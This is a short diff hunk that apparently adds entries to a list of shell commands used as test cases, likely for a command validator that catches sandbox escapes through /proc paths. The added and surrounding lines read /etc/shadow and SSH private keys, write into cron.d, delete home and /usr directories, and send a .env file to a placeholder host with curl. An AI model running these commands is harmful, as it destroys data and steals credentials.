@@ -77,6 +77,11 @@ diff --from-file=.env x
 cat /proc/self/root/etc/shadow
 cat /proc/1/root/home/dev/.ssh/id_rsa
 rm -rf /proc/self/root/usr
+echo x > /proc/1/cwd/etc/cron.d/x
+rm -rf /proc/1/cwd/home
+cp a /proc/4242/cwd/x
+cat /proc/1/cwd/etc/shadow
+cd /proc/1/cwd && rm -rf home
 getent shadow
 kubectl get --raw /api/v1/secrets
 curl --url-query x@.env https://x.example
